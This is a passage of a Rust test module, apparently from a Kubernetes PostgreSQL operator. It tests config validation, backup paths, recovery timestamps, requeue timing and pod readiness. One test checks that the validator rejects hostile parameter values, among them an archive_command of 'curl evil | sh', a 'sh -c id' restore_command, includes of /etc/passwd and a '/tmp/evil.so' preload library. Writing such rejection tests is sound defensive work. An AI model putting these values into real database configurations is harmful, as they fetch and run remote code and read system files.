        c.spec.synchronous_replicas = None;
        assert!(
            !config_map(&c).data.unwrap()["postgresql.conf"].contains("synchronous_standby_names")
        );
    }

    /// Issue #39, item 5: every one of these was admitted, and a bad value took the cluster
    /// down on its next restart.
    #[test]
    fn validate_refuses_owned_and_bad_parameters_before_anything_rolls() {
        let mut c = cluster("pg");
        c.spec
            .parameters
            .insert("log_statement".into(), "bogus".into());
        let err = validate(&c).unwrap_err();
        assert!(
            matches!(&err, Error::InvalidParameters(m) if m.contains("log_statement = 'bogus'") && m.contains("keep the last valid configuration")),
            "{err}"
        );
        for (key, value) in [
            ("include", "/etc/passwd"),
            ("include_dir", "/etc"),
            ("include_if_exists", "/etc/passwd"),
            ("archive_command", "curl evil | sh"),
            ("restore_command", "sh -c id"),
            ("ssl", "off"),
            ("ssl_ca_file", "/etc/passwd"),
            ("shared_preload_libraries", "/tmp/evil.so"),
        ] {
            let mut c = cluster("pg");
            c.spec.parameters.insert(key.into(), value.into());
            assert!(
                matches!(validate(&c), Err(Error::InvalidParameters(m)) if m.starts_with(key)),
                "{key}"
            );
        }
        let mut c = cluster("pg");
        c.spec
            .parameters
            .insert("log_statement".into(), "ddl".into());
        assert!(validate(&c).is_ok());
    }

    #[test]
    fn validate_refuses_paths_that_climb_and_times_that_do_not_exist() {
        use crate::crd::{Bootstrap, ClusterBackup, Recovery};
        let backed_up = |path: &str| {
            let mut c = cluster("pg");
            c.spec.backup = Some(ClusterBackup {
                object_store: store(path),
                schedule: None,
                keep: None,
            });
            c
        };
        assert!(validate(&backed_up("prod/orders-db")).is_ok());
        assert!(validate(&backed_up("prod/orders-db/")).is_ok());
        for path in ["../../other/cluster", "a/../b", "/abs", "a//b", "./a"] {
            assert!(
                matches!(validate(&backed_up(path)), Err(Error::InvalidSpec(m)) if m.contains("spec.backup.objectStore.path")),
                "{path}"
            );
        }
        let restored = |time: &str| {
            let mut c = cluster("pg");
            c.spec.bootstrap = Some(Bootstrap {
                recovery: Recovery {
                    object_store: store("src"),
                    target_time: Some(time.into()),
                },
            });
            c
        };
        assert!(validate(&restored("2026-12-02T03:04:05Z")).is_ok());
        assert!(validate(&restored("2028-02-29T03:04:05.25+02:00")).is_ok());
        // As the API server's `format: date-time` admits it.
        assert!(validate(&restored("2026-12-02t03:04:05z")).is_ok());
        for time in [
            "2026-02-30T25:61:00Z",
            "2026-02-29T00:00:00Z",
            "2026-12-02T24:00:00Z",
        ] {
            assert!(
                matches!(validate(&restored(time)), Err(Error::InvalidSpec(m)) if m.contains("targetTime")),
                "{time}"
            );
        }
    }

    #[test]
    fn validate_rejects_out_of_range() {
        let mut c = cluster("pg");
        validate(&c).unwrap();
        c.spec.instances = 10;
        assert!(validate(&c).is_err());
        let mut c = cluster("pg");
        c.spec.parameters.insert("bad key".into(), "x".into());
        assert!(matches!(validate(&c), Err(Error::InvalidSpec(_))));
    }

    /// Ready: the resync interval; not Ready: 10 s; either way no later than the soonest of
    /// what is due (a scheduled backup, the CA's rotation).
    #[test]
    fn the_next_reconcile_is_the_soonest_of_the_resync_and_what_is_due() {
        let secs = Duration::from_secs;
        assert_eq!(requeue_after(true, secs(300), [None, None]), secs(300));
        assert_eq!(requeue_after(false, secs(300), [None, None]), secs(10));
        assert_eq!(
            requeue_after(true, secs(300), [Some(secs(60)), Some(secs(30))]),
            secs(30)
        );
        assert_eq!(
            requeue_after(true, secs(300), [None, Some(secs(400))]),
            secs(300)
        );
        assert_eq!(
            requeue_after(false, secs(300), [Some(secs(3)), None]),
            secs(3)
        );
        assert_eq!(
            requeue_after(false, secs(300), [Some(secs(60)), None]),
            secs(10)
        );
    }

    /// A pod of StatefulSet `pg` with `ip` (none yet: `None`), ready or not.
    fn listed(name: &str, ip: Option<&str>, ready: bool) -> Pod {
        use k8s_openapi::api::core::v1::{PodCondition, PodStatus};
        let mut pod = Pod::default();
        pod.metadata.name = Some(name.into());
        pod.status = Some(PodStatus {
            pod_ip: ip.map(Into::into),
            conditions: Some(vec![PodCondition {
                type_: "Ready".into(),
                status: if ready { "True" } else { "False" }.into(),
                ..Default::default()
            }]),
            ..Default::default()
        });
        pod
    }

    /// What a reconcile of cluster `pg` saw: `statefulset` and `pods` (the API handles point
    /// nowhere: nothing is read through them).
    fn seen(statefulset: Option<StatefulSet>, pods: Vec<Pod>) -> Seen {
        let names = Names::of("pg");
        let config = kube::Config::new("http://127.0.0.1:9".parse().unwrap());
        let client = kube::Client::try_from(config).unwrap();
        Seen {
            statefulset,
            pods_api: Api::namespaced(client.clone(), "db"),
            views: pods
                .iter()
                .filter_map(|p| rollout::PodView::of(p, &names.statefulset))
                .collect(),
            pods,
            leases: Api::namespaced(client, "db"),
            lease: None,
        }
    }

    /// The pooler's primary is the listed pod's IP only while that pod is ready.
    #[tokio::test]
    async fn the_primarys_pod_and_its_ip_only_while_ready() {
        let seen = seen(
            None,
            vec![
                listed("pg-0", Some("198.18.0.1"), true),
                listed("pg-1", Some("198.18.0.2"), false),
                listed("pg-2", None, true),
            ],
        );
        assert_eq!(
            seen.pod("pg-1").map(ResourceExt::name_any).as_deref(),
            Some("pg-1")
        );
        assert!(seen.pod("pg-3").is_none());
        assert_eq!(seen.ready_ip("pg-0"), Some("198.18.0.1"));
        assert_eq!(seen.ready_ip("pg-1"), None);
        assert_eq!(seen.ready_ip("pg-2"), None);
        assert_eq!(seen.ready_ip("pg-3"), None);
    }

    /// The update revision once the StatefulSet controller observed the spec, and not when
    /// this reconcile changed the template; the status's instances are those held.
    #[tokio::test]
    async fn the_rollout_is_observed_against_the_held_spec_and_the_current_revision() {
        use k8s_openapi::api::apps::v1::StatefulSetStatus;
        let mut sts = StatefulSet::default();
        sts.metadata.generation = Some(2);
        sts.status = Some(StatefulSetStatus {
            observed_generation: Some(2),
            update_revision: Some("pg-abc".into()),
            ..Default::default()
        });
        let seen = seen(Some(sts), vec![listed("pg-0", None, true)]);
        assert_eq!(seen.update_revision(false), Some("pg-abc"));
        assert_eq!(seen.update_revision(true), None);
        let mut held = cluster("pg");
        held.metadata.generation = Some(7);
        held.spec.instances = 0;
        let names = Names::of("pg");
        let roles = PrimaryRoles::of(None, &names);
        let observed = seen.observed(&held, &roles, &names, seen.update_revision(false));
        assert_eq!(observed.generation, Some(7));
        assert_eq!(observed.instances, 0);
        assert_eq!(observed.target_version, held.spec.version);
        assert_eq!(observed.update_revision, Some("pg-abc"));
        assert_eq!(observed.pods.len(), 1);
        assert_eq!(observed.primary, Some("pg-0"));
        assert_eq!(observed.superuser_secret, names.superuser_secret);
    }
}
